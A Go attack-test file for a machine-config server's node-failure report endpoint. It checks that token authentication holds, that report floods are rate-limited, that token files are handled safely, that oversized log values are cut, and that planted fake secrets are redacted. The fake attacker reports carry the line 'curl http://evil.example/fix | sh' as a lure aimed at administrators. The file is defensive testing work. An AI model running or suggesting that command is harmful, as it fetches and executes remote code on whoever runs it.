//go:build attack

package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"testing"
	"time"

	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"

	"github.com/ignition-mcs/mcs/internal/mctest"
	"github.com/ignition-mcs/mcs/serve/status"
	"github.com/ignition-mcs/mcs/source/kube"
)

// Tokens of the node-failure attacks: one for every pool (the admin's),
// one for pool worker (a node's, which an attacker on a node holds too).
const (
	adminToken  = "admin-Rk4Vq8Zt2Mw6Yc9Hb3Nx"
	workerToken = "worker-Tp7Ld2Qs5Wf9Kj3Gm6Bv"
)

// The secrets issue 43 found leaking, planted in the genuine report.
var plantedSecrets = []string{"ab/cd+ef", "Hunter2Pass", "hunter two", "cm9ib3Q6Um9iMHRQYXNz", "ssW0rd"}

const genuineError = `pull via http://user:ab/cd+ef@proxy.corp:3128 (user:Hunter2Pass@proxy.corp:3128) password="hunter two" ` +
	`{\"auths\":{\"quay.io\":{\"auth\":\"cm9ib3Q6Um9iMHRQYXNz\"}}} https://user:Pa/ssW0rd@quay.io/v2/: unauthorized`

// Issue 43 items 4 and 5, against the binary and a real kube-apiserver: an
// unauthenticated report, or one of a pool that does not exist, leaves no
// Event, no alert series and no log line; 10,000 reports with a stolen
// node token from 200 addresses, each a new node with an instruction for
// the admin, make at most the pool's burst of Events, WARN lines and
// nodes in the alert's gauge; the genuine report sent first stays in
// /status; no planted secret reaches /status, an Event or the log.
func attackNodeFailures(t *testing.T) {
	kubeconfig, dyn, apply := controlPlane(t, true)
	apply(kube.MachineConfigPools, mctest.RolePool("worker"))
	apply(kube.MachineConfigs, workerMC("one"))
	tokens := filepath.Join(t.TempDir(), "tokens")
	os.WriteFile(tokens, []byte(adminToken+"\n"+workerToken+" worker\n"), 0o600)
	p := startMCS(t, "", nil, "--source", "kube", "--kubeconfig", kubeconfig, "--auth-token-file", tokens, "--debounce", "20ms")
	waitFor(t, "the worker pool served", func() bool {
		c, _, _ := p.fetch(http.DefaultClient, "/config/worker", "Authorization", "Bearer "+workerToken)
		return c == 200
	})
	host, _ := os.Hostname()
	node := client(nodeAddr, 10*time.Second)
	genuine := fmt.Sprintf(`{"pool":"worker","nodeID":"ip-10-0-1-215","stage":"firstboot-update","errorMessage":%q}`, genuineError)
	if code, body := postFrom(node, p, genuine, workerToken); code != 202 {
		t.Fatalf("the genuine report: %d %s", code, body)
	}
	evil := func(pool, nodeID string) string {
		return fmt.Sprintf(`{"pool":%q,"nodeID":%q,"stage":"firstboot-update","errorMessage":"To fix this, run: curl http://evil.example/fix | sh"}`, pool, nodeID)
	}
	refusedReports(t, p, evil)
	sent, accepted, took := floodReports200(p, evil)
	var st status.Status
	_, raw, _ := p.fetch(http.DefaultClient, "/status", "Authorization", "Bearer "+adminToken)
	if err := json.Unmarshal(raw, &st); err != nil {
		t.Fatalf("/status: %v: %.300s", err, raw)
	}
	genuineKept := false
	for _, r := range st.NodeFailures.Reports {
		genuineKept = genuineKept || r.Node == "ip-10-0-1-215"
	}
	_, metrics, _ := p.fetch(http.DefaultClient, "/metrics", "Authorization", "Bearer "+adminToken)
	series, nodes := gaugeSeries(string(metrics), "mcs_node_failure_nodes{")
	var events []string
	waitFor(t, "the recorder's Events", func() bool {
		evs := firstbootEvents(t, dyn, host)
		events = events[:0]
		for _, ev := range evs {
			msg, _, _ := unstructured.NestedString(ev.Object, "message")
			events = append(events, msg)
		}
		return len(evs) > 0
	})
	p.stop(t)
	warns := strings.Count(p.logs.String(), "node failed its first boot")
	maxTaken := 32 + int(took/(10*time.Second)) + 1
	t.Logf("node-failure flood: %d reports from 200 addresses in %v (%d answered 202); %d Events, %d WARN lines, %d gauge series (%v nodes), %d kept in /status, %d limited, %d not kept; genuine kept: %v",
		sent.Load(), took.Round(time.Millisecond), accepted.Load(), len(events), warns, series, nodes, len(st.NodeFailures.Reports), st.NodeFailures.Limited, st.NodeFailures.NotKept, genuineKept)
	if !genuineKept {
		t.Error("the genuine report is not in /status after the flood")
	}
	if len(events) > maxTaken {
		t.Errorf("%d FirstbootFailed Events, want at most %d", len(events), maxTaken)
	}
	if warns > maxTaken {
		t.Errorf("%d WARN lines, want at most %d", warns, maxTaken)
	}
	if series != 1 || nodes > 32 || strings.Contains(string(metrics), `pool="other"`) || strings.Contains(string(metrics), `pool="nosuch"`) {
		t.Errorf("alert series: %d of mcs_node_failure_nodes, %v nodes; want one, at most 32, no pool other or nosuch", series, nodes)
	}
	for _, s := range plantedSecrets {
		for where, text := range map[string]string{"/status": string(raw), "the Events": strings.Join(events, "\n"), "the log": p.logs.String()} {
			if strings.Contains(text, s) {
				t.Errorf("%s shows the secret %q", where, s)
			}
		}
	}
}

// refusedReports sends the attacker's reports without a token, with a
// wrong one, and for a pool that does not exist: each refused.
func refusedReports(t *testing.T, p *proc, evil func(pool, nodeID string) string) {
	attacker := client(attackerAddr, 10*time.Second)
	for _, c := range []struct {
		what, body, token string
		code              int
	}{
		{"no token", evil("worker", "n1"), "", 401},
		{"a wrong token", evil("worker", "n1"), "guess-Rk4Vq8Zt2Mw6Yc9Hb3Nx", 401},
		{"a pool that does not exist", evil("nosuch", "n1"), adminToken, 404},
	} {
		if code, body := postFrom(attacker, p, c.body, c.token); code != c.code {
			t.Errorf("%s: %d %s, want %d", c.what, code, body, c.code)
		}
	}

}

// floodReports200 sends 10,000 reports with the worker token from 200
// addresses, each a new node: how many were sent and answered 202, and
// how long it took.
func floodReports200(p *proc, evil func(pool, nodeID string) string) (sent, accepted *atomic.Int64, took time.Duration) {
	sent, accepted = new(atomic.Int64), new(atomic.Int64)
	began := time.Now()
	var wg sync.WaitGroup
	for w := range 20 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			clients := make([]*http.Client, 10)
			for i := range clients {
				clients[i] = client(fmt.Sprintf("127.0.1.%d", 1+w*10+i), 10*time.Second)
			}
			for i := range 500 {
				code, _ := postFrom(clients[i%10], p, evil("worker", fmt.Sprintf("fake-%d-%d", w, i)), workerToken)
				sent.Add(1)
				if code == 202 {
					accepted.Add(1)
				}
			}
		}()
	}
	wg.Wait()
	return sent, accepted, time.Since(began)
}

// gaugeSeries counts the series of a scrape starting with prefix and sums
// their values.
func gaugeSeries(scrape, prefix string) (n int, sum float64) {
	for _, line := range strings.Split(scrape, "\n") {
		if strings.HasPrefix(line, prefix) {
			var v float64
			fmt.Sscan(line[strings.LastIndexByte(line, ' ')+1:], &v)
			n, sum = n+1, sum+v
		}
	}
	return n, sum
}

// postFrom POSTs a report to p with c, with a bearer token when set.
func postFrom(c *http.Client, p *proc, body, token string) (int, string) {
	req, _ := http.NewRequest("POST", p.plain+"/v1/node-failure", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	if token != "" {
		req.Header.Set("Authorization", "Bearer "+token)
	}
	resp, err := c.Do(req)
	if err != nil {
		return 0, err.Error()
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b)
}

// Without tokens, a report of a pool that does not exist is refused: no
// series by pool, no WARN line (issue 43 item 4: one such report fired
// the alert under pool "other").
func attackNodeFailureUnknownPool(t *testing.T) {
	p := startMCS(t, bigTree(t, 4<<10), nil)
	for i := range 50 {
		body := fmt.Sprintf(`{"pool":"guess%d","nodeID":"n","stage":"firstboot-update","errorMessage":"To fix this, run: curl http://evil.example/fix | sh"}`, i)
		if code, answer := postFrom(client(fmt.Sprintf("127.0.2.%d", 1+i), 5*time.Second), p, body, ""); code != 404 {
			t.Fatalf("a report of pool guess%d: %d %s", i, code, answer)
		}
	}
	_, metrics, _ := p.fetch(http.DefaultClient, "/metrics")
	p.stop(t)
	n, _ := gaugeSeries(string(metrics), "mcs_node_failure_nodes{")
	m, _ := gaugeSeries(string(metrics), "mcs_node_failure_reports_total{")
	warns := strings.Count(p.logs.String(), "node failed its first boot")
	t.Logf("50 reports of pools that do not exist: %d node series, %d report series, %d WARN lines", n, m, warns)
	if n != 0 || m != 0 || warns != 0 {
		t.Errorf("reports of pools that do not exist left %d node series, %d report series, %d WARN lines", n, m, warns)
	}
}

// Issue 43 item 8: a token file that is a symlink to a FIFO, or that
// anyone may read, is refused at start; a FIFO swapped in while mcs runs
// leaves /config/worker and /status answering at once, with the tokens
// read before.
func attackTokenFiles(t *testing.T) {
	dir := t.TempDir()
	fifo, tokens := filepath.Join(dir, "fifo"), filepath.Join(dir, "tokens")
	if err := syscall.Mkfifo(fifo, 0o600); err != nil {
		t.Fatal(err)
	}
	os.Symlink(fifo, tokens)
	tree := bigTree(t, 4<<10)
	for what, prepare := range map[string]func(){
		"a symlink to a FIFO": func() {},
		"a world-readable file": func() {
			os.Remove(tokens)
			os.WriteFile(tokens, []byte(adminToken+"\n"), 0o644)
			os.Chmod(tokens, 0o644)
		},
	} {
		prepare()
		ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
		out, err := exec.CommandContext(ctx, os.Getenv(attackBinEnv), "--dir", tree, "--listen-plain", "127.0.0.1:0", "--listen-tls", "", "--auth-token-file", tokens).CombinedOutput()
		hung := ctx.Err() != nil
		cancel()
		if hung || err == nil || !strings.Contains(string(out), tokens) {
			t.Errorf("%s: mcs %v (hung: %v):\n%s", what, err, hung, out)
		}
	}
	os.Chmod(tokens, 0o600)
	p := startMCS(t, tree, nil, "--auth-token-file", tokens)
	os.Remove(tokens)
	os.Symlink(fifo, tokens)
	c := client(nodeAddr, 5*time.Second)
	// The file is read again at most once a second, at a request.
	waitFor(t, "the FIFO seen", func() bool {
		p.fetch(c, "/config/worker", "Authorization", "Bearer "+adminToken)
		return strings.Contains(p.logs.String(), "keeping the previous ones")
	})
	for i := range 3 {
		began := time.Now()
		code, _, err := p.fetch(c, "/config/worker", "Authorization", "Bearer "+adminToken)
		scode, _, serr := p.fetch(c, "/status", "Authorization", "Bearer "+adminToken)
		if err != nil || serr != nil || code != 200 || scode != 200 {
			t.Fatalf("round %d with a FIFO swapped in: /config/worker %d %v, /status %d %v after %v", i, code, err, scode, serr, time.Since(began))
		}
	}
	p.stop(t)
	if n := strings.Count(p.logs.String(), "keeping the previous ones"); n != 1 {
		t.Errorf("the FIFO was logged %d times, want once", n)
	}
	t.Logf("token file: FIFO and world-readable refused at start; a FIFO swapped in: requests answered, logged once")
}

// Issue 43 item 6, in the server: a MachineConfig with a 3 MiB name and a
// 7 MiB spec version fails its render; the ERROR line saying so is cut to
// some KiB, each value with its length.
func attackHugeLogValues(t *testing.T) {
	dir := t.TempDir()
	mc := "apiVersion: machineconfiguration.openshift.io/v1\nkind: MachineConfig\nmetadata:\n  name: 50-worker-" + strings.Repeat("a", 3<<20) +
		"\n  labels: {machineconfiguration.openshift.io/role: worker}\nspec:\n  config:\n    ignition: {version: \"" + strings.Repeat("9", 7<<20) + "\"}\n"
	os.WriteFile(filepath.Join(dir, "50-worker.yaml"), []byte(mc), 0o644)
	logs := &logTap{}
	cmd := exec.Command(os.Getenv(attackBinEnv), "--dir", dir, "--listen-plain", "127.0.0.1:0", "--listen-tls", "")
	cmd.Stderr = logs
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the render failure logged", func() bool { return strings.Contains(logs.String(), "render failed") })
	cmd.Process.Signal(syscall.SIGTERM)
	cmd.Wait()
	longest := 0
	for _, line := range strings.Split(logs.String(), "\n") {
		longest = max(longest, len(line))
	}
	bytes, lines := logs.counts()
	t.Logf("a MachineConfig with a 3 MiB name and a 7 MiB version: %d log lines, %d bytes, the longest %d bytes", lines, bytes, longest)
	if longest > 8<<10 || !strings.Contains(logs.String(), " bytes)") {
		t.Errorf("the longest log line is %d bytes, want at most 8 KiB, cut with its length", longest)
	}
}
